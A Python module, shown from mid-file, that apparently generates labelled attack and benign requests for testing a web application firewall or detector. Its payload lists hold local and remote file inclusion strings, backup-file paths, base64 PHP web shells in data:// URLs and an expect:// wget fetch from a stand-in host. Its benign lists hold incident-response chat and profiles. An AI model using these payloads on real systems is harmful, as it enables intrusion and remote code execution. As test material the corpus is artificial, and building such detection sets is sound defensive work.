    "/var/www/html/wp-content/debug.log",
    ("page=../../../../var/log/apache2/access.log&c=id", *LOG),
]

# restricted-file-extension: backups, editor leftovers, dumps and config files the download parameter handed out
# (the app's own .php/.aspx would run, its .bak/.old/.swp copy is served as text). Target: the file system behind
# the download endpoint of a PHP site, an IIS/ASP.NET app and a Java app.
BACKUP_FILES: list[Entry] = [
    "../config.php.bak",
    "../../wp-config.php.old",
    "../wp-config.php~",
    "../../wp-config.php.save",
    "../.wp-config.php.swp",
    "../includes/config.inc",
    "../../config.inc.php.orig",
    "../../.env.bak",
    "../Web.config.bak",
    "..\\web.config.old",
    "..\\App_Data\\users.mdb",
    "../../backup.sql",
    "../../db_backup_2024-06-10.sql",
    "../../dump.sql.gz",
    "../../settings.ini",
    "../conf/app.config",
    "../../WEB-INF/classes/application.properties.bak",
    "../../LocalSettings.php.old",
    "../../configuration.php.bak",
    "../../database.yml.bak",
    "../../.htpasswd.bak",
]

# ================================================================================================================
# rfi: remote file inclusion
# ================================================================================================================

# url-with-ip-address: the RFI scanner waves that never bother with a domain: the shell sits on a compromised
# host addressed by IP (dotted, decimal, hex, octal, IPv6-mapped, with a port), fetched by include() when
# allow_url_include is on. Target: PHP include()/require() on page/inc/template parameters of legacy PHP sites.
RFI_IP: list[Entry] = [
    "http://198.51.100.7/shell.txt",
    "http://198.51.100.7/r57.txt",
    "http://198.51.100.7/c99.txt",
    "http://203.0.113.45:8080/id.txt",
    "https://203.0.113.45/x.php",
    "http://203.0.113.45:81/wso.txt",
    "http://198.51.100.7/.well-known/acme-challenge/s.txt",
    "http://198.51.100.7/images/logo.jpg",
    "http://192.0.2.66/components/com_content/shell.txt",
    "http://192.0.2.66:8000/bot.txt",
    "http://3325256711/s.txt",
    "http://0xc6336407/s.txt",
    "http://0306.063.0144.07/s.txt",
    "http://3405803821:8080/r.txt",
    "http://[::ffff:c633:6407]/s.txt",
    "http://198.0x33.100.7/s.txt",
    "HTTP://198.51.100.7/SHELL.TXT",
    "hTtP://203.0.113.45/x.txt",
    "http://198.51.100.7/shell.txt%00",
    "http://198.51.100.7/s.txt#",
    "http://198.51.100.7/s.php.txt",
    "http://user:pass@198.51.100.7/s.txt",
    "http%3A%2F%2F198.51.100.7%2Fshell.txt",
    "http%253A%252F%252F198.51.100.7%252Fs.txt",
    "//198.51.100.7/s.txt",
    "http://198.51.100.7:80/s.txt",
    "http://198.51.100.7:443/x.txt",
    "http://203.0.113.45/cmd.gif",
    "http://192.0.2.66/mambo/id.txt",
    "http://192.0.2.66/x/",
]

# url-with-trailing-question-mark: the classic RFI trick of the same waves: a trailing '?' (or '??', or '?&' with
# the scanner's junk) turns the suffix the app appends ('.php', '/header.inc.php') into a query string the
# attacker's server ignores. Target: PHP include($_GET['page'] . '.php') and friends.
RFI_QUESTION: list[Entry] = [
    "http://198.51.100.7/shell.txt?",
    "http://198.51.100.7/id.txt??",
    "http://203.0.113.45/r57.txt?&",
    "http://evil.example/c99.txt?",
    "https://pastebin.com/raw/Zk3wQ9pL?",
    "http://cdn-update.example.net/inc.txt?",
    "http://198.51.100.7/s.txt?&cmd=id",
    "http://198.51.100.7/s.txt?cmd=uname%20-a",
    "http://scan.example.org/fx29id1.txt???",
    "http://198.51.100.7/bot.txt?/",
    "http://198.51.100.7/t.txt?x=",
    "http://198.51.100.7/s.txt?.php",
    "http://203.0.113.45/mini.txt?/../../",
    "http://198.51.100.7/s.txt%3F",
    "http://198.51.100.7/s.txt%253F",
    "ftp://198.51.100.7/pub/s.txt?",
    "http://198.51.100.7:2082/id.txt?",
    "https://raw.githubusercontent.com/r00tk1t-dev/tools/main/wso.php?",
    "http://a7b3c9d1.ngrok.io/s.txt?",
    "http://198.51.100.7/s.txt?&_=1718113045123",
    "http://198.51.100.7/xpl.txt?;",
    "HTTP://198.51.100.7/ID.TXT?",
    "http://k3j9q2.oast.fun/rfi.txt?",
    "http://198.51.100.7/s.txt?" + "a" * 16,
    "http://203.0.113.45/s.jpg?",
    "//evil.example/s.txt?",
    "http://evil.example/s.txt\x00?",
    "http://198.51.100.7/sh.txt?%00",
    "http://198.51.100.7/test.txt?&page=",
    "http://198.51.100.7/p.txt?/header.inc",
]

# include-parameter-with-url: the same URLs under the include parameters the scanners sprayed (copied whole out of
# the access logs, with their junk parameters), naming the old PHP apps' variables: Mambo/Joomla
# mosConfig_absolute_path, phpBB phpbb_root_path, register_globals arrays, and the generic page/file/template/
# include/path. Target: PHP include() with register_globals or allow_url_include on (Mambo, Joomla 1.0
# components, phpBB 2 mods, PHP-Nuke, osCommerce, WordPress plugins of the time, custom sites).
RFI_PARAM: list[Entry] = [
    ("mosConfig_absolute_path=http://198.51.100.7/id.txt?", *LOG),
    ("mosConfig_absolute_path=http://198.51.100.7/r57.txt??&option=com_content", *LOG),
    ("phpbb_root_path=http://198.51.100.7/s.txt?", *LOG),
    ("_SERVER[DOCUMENT_ROOT]=http://198.51.100.7/s.txt?", *LOG),
    ("GLOBALS[rootpath]=http://198.51.100.7/bot.txt?", *LOG),
    ("config[root_dir]=http://evil.example/s.txt?", *LOG),
    ("include_path=http://198.51.100.7/s.txt?&x=1", *LOG),
    ("page=http://198.51.100.7/shell.txt?&_=1718113045", *LOG),
    ("file=http://evil.example/c99.txt?&lang=en", *LOG),
    ("template=http://198.51.100.7/t.txt?&cb=98213", *LOG),
    ("include=http://198.51.100.7/s.txt%3F&id=1", *LOG),
    ("path=http://198.51.100.7/s.txt?&action=view", *LOG),
    ("inc=http%3A%2F%2F198.51.100.7%2Fs.txt%3F&sid=4f2a", *LOG),
    ("base_path=http://203.0.113.45/x.txt?", *BODY),
    ("abs_path=http://203.0.113.45/x.txt?", *BODY),
    ("module=http://198.51.100.7/m.txt?&op=modload", *BODY),
    ("theme=http://evil.example/t.txt?", *BODY),
    ("lang=http://198.51.100.7/lang.txt%00", *BODY),
    ("dir=http://198.51.100.7/s.txt?&cmd=id", *BODY),
    ("appserv_root=http://198.51.100.7/s.txt?", *BODY),
    ("page=ftp://anonymous:x@198.51.100.7/s.txt&_=1718113045", *BODY),
    ("PAGE=HtTp://198.51.100.7/S.TxT?", *BODY),
    # the same shells under the include-named fields of JSON and form APIs
    "http://198.51.100.7/inc.txt?",
    "http://evil.example/header.txt",
    "https://pastebin.com/raw/8cD3vQxY",
    "http://198.51.100.7/footer.txt?",
    "https://evil.example/tpl/main.txt",
    "http://203.0.113.45/path.txt?",
    "http://198.51.100.7/lang/en.txt?",
    "http://198.51.100.7/module.txt??",
    "https://transfer.sh/8fQ2x/shell.txt",
    "http://198.51.100.7/wp.txt?",
]

# off-domain-reference: the includes that named a domain instead of an IP: paste sites, GitHub raw, file-drop and
# tunnelling services, out-of-band interaction hosts and the attackers' own look-alike domains. Target: PHP
# include()/file_get_contents() that executes or evaluates what it fetched (allow_url_include on).
RFI_DOMAIN: list[Entry] = [
    "http://evil.example/shell.txt",
    "https://pastebin.com/raw/Xc8bM2Lq",
    "https://pastebin.com/raw.php?i=Qz7Lm2Tx",
    "https://raw.githubusercontent.com/r00tk1t-dev/tools/main/s.php",
    "https://gist.githubusercontent.com/r00tk1t-dev/3f9a7c/raw/w.php",
    "https://transfer.sh/3kQ2x/c.txt",
    "http://a7b3c9d1.ngrok.io/inc.php",
    "https://a7b3-198-51-100-7.ngrok-free.app/s.txt",
    "http://k3j9q2.oast.fun/x.txt",
    "http://rfi.k3j9q2.oast.fun/",
    "https://webhook.site/6f1c2d9e/s.txt",
    "http://cdn-jquery-update.example.com/jquery.min.txt",
    "http://wordpress-updates.example.net/wp-load.txt",
    "http://files.evil.example:8080/x.txt",
    "https://evil.example/.a/s.jpg",
    "http://evil.example/s.txt%00",
    "//evil.example/s.txt",
    "\\\\evil.example\\pub\\s.txt",
    "https://evil.example:8443/s.txt",
    "http://EVIL.example/S.TXT",
    "http://evil.example/s.txt#.php",
    "http://www.google.com@evil.example/s.txt",
    "http://evil.example:80/s.txt",
    "http%3A%2F%2Fevil.example%2Fshell.txt",
    "http%253A%252F%252Fevil.example%252Fshell.txt",
    "http://xn--80ak6aa92e.example/s.txt",
    "https://bit.ly/3xRfI9z",
    "http://dl.dropboxusercontent.com/s/9x2k/s.txt",
    "https://cdn.discordapp.com/attachments/1122/3344/s.txt",
    "http://evil.example/shell.txt?&lang=en&_=1718113045",
]

# rfi-protocol: the non-HTTP ways to include remote code the responders found once http:// was filtered: FTP,
# SMB/UNC (works on Windows PHP even with allow_url_include off), WebDAV UNC, data: and expect:, file:// to a UNC
# share. Targets: PHP include() on Windows/IIS and Linux, PHP with the expect extension, Java's jar: URL handler.
RFI_PROTOCOL: list[Entry] = [
    "ftp://198.51.100.7/pub/s.txt",
    "ftp://anonymous:anon@198.51.100.7/s.txt",
    "ftp://evil.example/s.php",
    "ftps://198.51.100.7/s.txt",
    "FTP://198.51.100.7/s.txt",
    "\\\\198.51.100.7\\share\\shell.php",
    "\\\\198.51.100.7\\x\\s.txt",
    "\\\\evil.example@SSL\\DavWWWRoot\\s.php",
    "\\\\evil.example@80\\webdav\\s.php",
    "//198.51.100.7/share/s.php",
    "smb://198.51.100.7/share/s.php",
    "file://198.51.100.7/share/s.php",
    "file:////198.51.100.7/share/s.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system($_GET['c']);?>",
    "data://text/plain;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydlJ10pOyA/Pg==",
    "DaTa://text/plain;base64,PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+",
    "data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==",
    "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4%3D",
    "expect://id",
    "expect://ls",
    "expect://uname%20-a",
    "expect://wget http://198.51.100.7/s.sh -O /tmp/s.sh",
    "EXPECT://id",
    "jar:http://198.51.100.7/x.jar!/",
    "jar:https://evil.example/p.jar!/payload.class",
    "ftp://198.51.100.7:2121/s.txt?",
    "\\\\k3j9q2.oast.fun\\a",
    "smb://evil.example/share/inc.php",
    ("page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=&cmd=id", *LOG),
    ("file=expect://id&_=1718113045", *LOG),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE_SHELL),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "shell-downloader", DOWNLOADER),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_FILES),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-target", LOG_POISON),
    ("lfi", "restricted-file-extension", BACKUP_FILES),
    ("rfi", "url-with-ip-address", RFI_IP),
    ("rfi", "url-with-trailing-question-mark", RFI_QUESTION),
    ("rfi", "include-parameter-with-url", RFI_PARAM),
    ("rfi", "off-domain-reference", RFI_DOMAIN),
    ("rfi", "rfi-protocol", RFI_PROTOCOL),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
# the parameter names the payloads arrive under on our routes, by category (the fields the exploited apps had)
NAMES = {
    "rce": ["host", "ip", "cmd", "target", "addr", "q", "domain", "filename"],
    "lfi": ["file", "page", "path", "template", "lang", "doc", "download", "view"],
    "rfi": ["page", "include", "file", "template", "path", "url", "inc", "src"],
}
# Shellshock rides in the headers bash imports as environment variables; its regression copy goes to CGI scripts
SHELLSHOCK_CYCLES: Cycles = (("header:User-Agent", "header:Referer", "header:Cookie", "header:X-Api-Version"),
                             ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header",
                              "rs-header:Cookie"))
CGI_PATHS = ["/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-bin/admin.cgi", "/cgi-bin/test-cgi"]


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = {sub for _, sub, _ in FAMILIES}   # only fixed `name=value` entries (log copies) are raw
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+?"   # a log copy keeps its own percent-encoding and '+' spaces
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        if sub == "include-parameter-with-url":   # the family is the parameter's name
            return NAMES["rfi"][k % len(NAMES["rfi"])]
        return super().rs_name(category, sub, k)

    def rs_path(self, category: str, sub: str, k: int) -> str:
        if sub == "shellshock":
            return CGI_PATHS[k % len(CGI_PATHS)]
        return super().rs_path(category, sub, k)

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":
            return SHELLSHOCK_CYCLES
        return super().cycles(category, sub, payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently: an incident-response team and SREs talking in Slack about outages and
# intrusions (timelines, tickets, host names, log excerpts without payloads), on-call engineers' bios, searches for
# colleagues on the rota, links to status pages and post-mortems, admin notes about blocked IP ranges, quoted error
# messages and the file names of reports.
CHAT = [
    # incident channel
    "INC-4821 timeline: 02:14 UTC first WAF alert, 02:31 on-call paged, 02:50 edge rules updated, 03:40 all clear",
    "we rotated the keys for the payments service at 04:10, old ones revoked in the console",
    "ticket SEC-1193 is the scanner wave from last night, nothing got through, closing after review",
    "web-prod-03 is out of the load balancer, the forensics image is uploading to the evidence bucket",
    "incident channel is #inc-2024-06-11-edge, please keep the chatter in threads",
    "IC for this one is Priya, comms lead is Tom, I'm scribe",
    "status page updated: investigating elevated error rates on the API",
    "post-mortem draft is in the wiki, blameless format, add your timeline entries by Friday please",
    "root cause: expired intermediate cert on the internal CA chain, the renewal job had been failing since May",
    "the 502s were nginx failing to reach the upstream: connect() failed (111: Connection refused)",
    "reminder: don't paste customer data or secrets in this channel, link the ticket instead",
    "blocked 198.51.100.0/24 at the edge, it was the source of the credential stuffing",
    "unblocking 203.0.113.0/24 again, it turned out to be the partner's NAT range",
    "the disk filled up on db-replica-2 because the slow query log was left on",
    "who has the pager this week? the rota says Marco but he's on leave",
    "handover: two open incidents, INC-4821 monitoring, INC-4826 waiting on the vendor",
    "spike of 404s for wp-login.php and phpmyadmin overnight, we run neither, background noise",
    "the scanner was hitting random cgi-bin paths all night, all 404, no action needed",
    "ssh keys for the bastion were rotated, update the host key in your known_hosts",
    "if you get 'Permission denied (publickey)' on the bastion, re-run the onboarding script",
    "the backup cron job failed at 03:00 with 'No space left on device'",
    "the reverse proxy config change is in PR #1842, needs one more approval",
    "forensics found no persistence on the host: no new users, cron and systemd units match the golden image",
    "we compared /etc/passwd and the sudoers file against the baseline, both unchanged",
    "EDR flagged powershell on the build agent, it was the deploy script, marking it a false positive",
    "the pentest report mentions path traversal on the old download endpoint, fixed in 3.2.1",
    "lessons learned meeting Thursday 15:00, agenda in the doc",
    "action item: alert when the WAF block rate stays above 5% for ten minutes",
    "the health checker's curl gets a 200 but browsers get a 503, caching issue?",
    "pulled the access logs for 02:00-03:00 UTC into the evidence bucket, sha256 sums are in the ticket",
    "bash history on the jump box is empty because HISTFILE is unset there by policy",
    "DNS was fine. it's never DNS. except when it is",
    "rolling restart of the API pods done, error rate back to baseline",
    "the on-call handbook now has a section on how to take a memory image",
    "can someone from legal join the bridge? the customer wants a written summary",
    "customer notification went out at 10:00, template approved by comms",
    "the WAF false positive on the 'Cat & Dog Rescue' profile is fixed, thanks for reporting",
    "the VPN appliance patch is out, maintenance window Sunday 02:00-04:00",
    "we upgraded Grafana to 10.4 after the advisory, dashboards all fine",
    "the Citrix gateway was patched in January, checked the build number again today",
    "Jenkins agents are rebuilt from the image weekly, nothing on them lives longer than 7 days",
    "retro note: the runbook link in the alert was dead, fixed now",
    "use the incident template please: impact, timeline, detection, response, follow-ups",
    "pager went off for disk usage on log-01, rotated the logs, we're at 61%",
    "the .env on the old box only has placeholders now, the real secrets moved to the vault last quarter",
    "the backup.sql in the old bucket was from 2019, deleted it after checking with the data owner",
    "the web.config on the legacy IIS box still has debug=true, ticket OPS-772",
    "kubectl logs shows the pod crashlooping with exit code 137, OOMKilled",
    "the team page on Confluence lists who is on call for each service",
    "anyone know who owns the ftp server in the DMZ? it still answers on port 21",
    "we decommissioned the old \\\\fileserver01\\public share last month, shout if you still need something",
    "mail to security@ goes to the IR queue, triage within 4 hours",
    "page me if the error budget burn alert fires again tonight",
    "tabletop next month: ransomware on a file server. bring coffee",
    "the php-fpm slow log points at one endpoint taking 30s, it's the PDF export",
    "turned off directory listing on the static bucket, it was exposing build artefacts",
    "the include path warning in the legacy CMS is harmless, the file was renamed in 2.3",
    "MTTR this quarter is down to 42 minutes, nice work everyone",
    "somebody's running a wiki on a personal VPS with prod data in it, talking to them now",
    "the 'upstream timed out (110: Connection timed out) while reading response header' errors stopped at 03:12",
    # bios
    "SRE, on call every fourth week. Kubernetes, nginx, Postgres. Pager etiquette enthusiast.",
    "Incident commander and DFIR lead. Timelines, evidence handling, post-mortems.",
    "Detection engineer: WAF and SIEM rules, and far too many access logs.",
    "Network engineer. BGP, firewalls, the occasional packet capture at 3am.",
    "Platform engineer, Linux and bash since 2006. Ask me about cron and systemd timers.",
    "Windows admin. Active Directory, PowerShell, Group Policy. Patch Tuesday survivor.",
    "Forensic analyst. Disk images, memory dumps, chain of custody.",
    "On-call lead for payments. Escalation: page, then call, then Slack.",
    "SOC analyst, night shift. If the pager rings after midnight it's probably me.",
    "Backend developer, PHP and Go. I fixed the download endpoint, sorry about that one.",
]

SEARCHES = [
    "priya", "on-call", "incident commander", "sre", "dfir", "forensics", "marco rossi", "security team",
    "network", "windows admin", "powershell", "bash", "linux", "nginx", "grafana", "citrix", "vpn", "firewall",
    "soc", "night shift", "pager", "oncall", "ir lead", "tom o'neil", "ana", "kubernetes", "postgres", "backup",
    "legal", "comms", "scribe", "payments", "platform", "detection", "siem", "waf", "edge", "bastion", "jenkins",
    "ftp", "shell", "cat", "root", "admin", "sysadmin", "data owner", "vendor", "status", "post-mortem", "rota",
]

URLS = [
    "https://status.example.com/incidents/k7x2m9q4p1",
    "https://status.example.com/history?page=2",
    "https://wiki.example.com/display/SRE/Incident+Response+Runbook",
    "https://wiki.example.com/display/SEC/INC-4821+Post-mortem",
    "https://github.com/example-org/postmortems/blob/main/2024/2024-06-11-edge-outage.md",
    "https://example.atlassian.net/browse/SEC-1193",
    "https://example.pagerduty.com/incidents/Q2X8KD1L0M",
    "https://sre.google/sre-book/postmortem-culture/",
    "https://response.pagerduty.com/",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-41773",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://attack.mitre.org/techniques/T1059/004/",
    "https://attack.mitre.org/techniques/T1505/003/",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/"
    "07-Input_Validation_Testing/11.1-Testing_for_Local_File_Inclusion",
    "https://grafana.com/security/security-advisories/cve-2021-43798/",
    "https://support.citrix.com/article/CTX267027",
    "https://www.githubstatus.com/",
    "https://www.cloudflarestatus.com/incidents/0h3k2m9x7z",
    "https://docs.example.com/runbooks/waf-false-positives#unblock",
    "https://grafana.example.com/d/edge-overview/edge?orgId=1&from=now-6h&to=now",
    "https://kibana.example.com/app/discover#/?_g=(time:(from:now-24h,to:now))",
    "https://calendar.example.com/oncall/rota?team=sre&week=24",
    "https://drive.example.com/file/d/1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT/view",
]

PROSE = [
    "on-call rota June",
    "incident commander training attendees",
    "people who rotated keys last quarter",
    "blocked IP ranges review - 198.51.100.0/24 and 203.0.113.0/24",
    "users in team sre",
    "DFIR retainer contacts",
    "post-mortem reviewers",
    "night shift SOC",
    "root cause analysis working group",
    "bash scripting course sign-ups",
    "PowerShell user group",
    "Windows server admins",
    "INC-4821 responders",
    "SEC-1193 follow-up owners",
    "shell company checks - vendor onboarding",
    "office cat sitters",
    "ping pong tournament",
    "curling team (Thursday league)",
    "The Cat & Fiddle pub quiz team",
    "path to production review",
    "file server migration owners",
    "include me in the escalation list",
    "status page template owners",
    "pt-BR translators",
    "error budget policy signatories",
    "tabletop exercise participants (ransomware scenario)",
    "evidence custodians",
    "break-glass account holders",
    "people with bastion access",
    "former on-call engineers",
    "Jenkins admins",
    "Grafana editors",
    "vendor contacts: VPN appliance",
    "data protection officer",
    "legal - incident notifications",
    "internal status page subscribers",
    "pager overrides this week",
    "security champions",
    "SRE interview panel",
    "web-prod-03 owners",
]

PROFILES = [
    ("Priya Raman", "Incident Command, 4th floor, Dublin office"),
    ("Marco Rossi", "Via Roma 12, Turin"),
    ("Tom O'Neil", "Grand Canal Dock 3, Dublin"),
    ("Ana Sousa", "Rua do Ouro 40, Lisbon"),
    ("Seashell Cafe", "Harbour Front 2, Brighton"),
    ("Catalina Pérez", "Calle Mayor 8, Madrid"),
    ("Bash Street Nursery", "Bash St 5, Dundee"),
    ("Windows & Doors Ltd", "Unit 7, Trade Park, Leeds"),
    ("Pathfinder Logistics", "Havenweg 21, Rotterdam"),
    ("Include Foundation", "Inclusion Way 2, Manchester"),
    ("Root & Branch Gardening", "Elm Grove 9, Bristol"),
    ("Null Pointer Café", "Kaiserstr. 14, Frankfurt"),
    ("Data Center Ops", "Building C, Ashburn VA"),
    ("Curl & Comb Salon", "High St 33, Bath"),
    ("Template Studio", "Nørrebrogade 18, Copenhagen"),
    ("Echo Park Coffee", "Sunset Blvd 1500, Los Angeles"),
    ("Ping Zhang", "Zhongshan Rd 88, Shanghai"),
    ("Ivan Petrov", "Nevsky Prospekt 20, St Petersburg"),
    ("Cron Family Dental", "Main St 77, Omaha"),
    ("Lena Fischer", "Hauptstr. 5, Berlin"),
]

UPLOAD_NAMES = [
    "INC-4821-timeline.pdf", "postmortem_2024-06-11_edge-outage.docx", "SEC-1193 scanner wave summary.xlsx",
    "waf-blocks-2024-06-11.csv", "access-log-excerpt-0200-0300.txt", "oncall-rota-Q3.xlsx",
    "blocked_ip_ranges.csv", "forensics-report-web-prod-03.pdf", "memory-image-hashes.txt",
    "evidence-chain-of-custody.pdf", "runbook-waf-unblock.md", "lessons-learned.pptx",
    "customer-notification-template.docx", "pentest-report-2024-Q2.pdf", "key-rotation-checklist.pdf",
    "status-page-screenshot.png", "grafana-dashboard-export.json", "error_budget_policy_v2.pdf",
    "tabletop-ransomware-scenario.pdf", "backup-restore-test-results.csv", "nginx-error-log-summary.txt",
    "sudoers-baseline-diff.txt", "passwd-baseline-diff.txt", "edr-alert-export.json",
    "firewall-change-request-OPS-772.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "kube-probe/1.29"),
    ("User-Agent", "Prometheus/2.52.0"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "PagerDuty-Webhook/V3.0"),
    ("Referer", "https://status.example.com/incidents/k7x2m9q4p1"),
    ("Referer", "https://example.pagerduty.com/incidents/Q2X8KD1L0M"),
    ("Referer", "https://wiki.example.com/display/SEC/INC-4821+Post-mortem"),
    ("Referer", "https://grafana.example.com/d/edge-overview/edge?orgId=1&from=now-6h&to=now"),
    ("Referer", "https://app.example.com/admin/users?q=on-call"),
    ("X-Request-Id", "b41c9e2a-7d3f-4a18-9c65-2e0f8d1a3b77"),
    ("X-Forwarded-For", "198.51.100.23, 10.0.3.17"),
    ("Accept-Language", "en-IE,en;q=0.9,pt;q=0.6"),
    ("Cookie", "session=abc123; oncall_view=week; tz=Europe%2FDublin"),
    ("Cache-Control", "no-cache"),
    ("If-Modified-Since", "Tue, 11 Jun 2024 03:40:00 GMT"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Incident-Id", "INC-4821"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
